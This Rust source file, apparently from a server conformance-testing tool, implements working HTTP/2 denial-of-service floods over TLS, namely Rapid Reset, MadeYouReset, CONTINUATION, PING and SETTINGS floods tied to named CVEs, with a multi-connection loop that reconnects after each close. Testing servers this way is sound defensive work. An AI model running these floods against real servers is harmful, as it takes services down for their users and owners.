//! Attacks with frames of HTTP/2, over TLS, where every server negotiates it.

use std::io::{self, ErrorKind, Read, Write};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use conduit_conformance::stream::{Door, Stream};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET /plain` of `https://a`.
const REQUEST: &[u8] = b"\x82\x87\x04\x06/plain\x01\x01a";
/// The number of concurrent connections.
const CONNECTIONS: usize = 4;
/// The number of frames of a write.
const FRAMES: u32 = 200;
/// The wait for input after a write.
const GLANCE: Duration = Duration::from_millis(1);
const TIMEOUT: Duration = Duration::from_secs(5);

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).expect("a frame is short");
    out.extend_from_slice(&length.to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// Requests that are reset at once (CVE-2023-44487).
pub(crate) fn rapid_reset(door: &Door, over: &AtomicBool) {
    flood(door, over, |out, number| {
        let stream = 2 * number + 1;
        frame(out, HEADERS, END_HEADERS | END_STREAM, stream, REQUEST);
        frame(out, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
    });
}

/// Requests that the server resets, because of an increment of 0 (CVE-2025-8671).
pub(crate) fn made_you_reset(door: &Door, over: &AtomicBool) {
    flood(door, over, |out, number| {
        let stream = 2 * number + 1;
        frame(out, HEADERS, END_HEADERS | END_STREAM, stream, REQUEST);
        frame(out, WINDOW_UPDATE, 0, stream, &[0; 4]);
    });
}

/// A field block without end (CVE-2024-27316 and others).
pub(crate) fn continuation(door: &Door, over: &AtomicBool) {
    flood(door, over, |out, number| match number {
        0 => frame(out, HEADERS, END_STREAM, 1, REQUEST),
        _ => frame(out, CONTINUATION, 0, 1, b"\0\x06x-bomb\x04boom"),
    });
}

/// Frames that the server responds to (CVE-2019-9512).
pub(crate) fn ping(door: &Door, over: &AtomicBool) {
    flood(door, over, |out, _| frame(out, PING, 0, 0, b"floodpin"));
}

/// The same with SETTINGS (CVE-2019-9515).
pub(crate) fn settings(door: &Door, over: &AtomicBool) {
    flood(door, over, |out, _| frame(out, SETTINGS, 0, 0, &[]));
}

/// Connections that each send frame after frame, and read; one that the server has closed is opened again.
fn flood(door: &Door, over: &AtomicBool, next: impl Fn(&mut Vec<u8>, u32) + Sync) {
    let Door::Https(address, config) = door else { return };
    let mut config = (**config).clone();
    config.alpn_protocols = vec![b"h2".to_vec()];
    let door = Door::Https(*address, Arc::new(config));
    std::thread::scope(|scope| {
        for _ in 0..CONNECTIONS {
            scope.spawn(|| {
                while !over.load(Ordering::Relaxed) {
                    // The server has closed the connection.
                    let _ = flood_one(&door, over, &next);
                }
            });
        }
    });
}

fn flood_one(door: &Door, over: &AtomicBool, next: &(impl Fn(&mut Vec<u8>, u32) + Sync)) -> io::Result<()> {
    let mut stream = door.connect(TIMEOUT)?;
    stream.socket().set_read_timeout(Some(GLANCE))?;
    stream.write_all(PREFACE)?;
    let (mut out, mut number) = (Vec::new(), 0);
    while !over.load(Ordering::Relaxed) {
        out.clear();
        for _ in 0..FRAMES {
            next(&mut out, number);
            number += 1;
        }
        stream.write_all(&out)?;
        drain(&mut stream)?;
    }
    Ok(())
}

/// Reads the available bytes: a client that does not read would stall.
fn drain(stream: &mut Stream) -> io::Result<()> {
    let mut buffer = [0; 64 * 1024];
    match stream.read(&mut buffer) {
        Ok(0) => Err(ErrorKind::UnexpectedEof.into()),
        Ok(_) => Ok(()),
        Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => Ok(()),
        Err(error) => Err(error),
    }
}
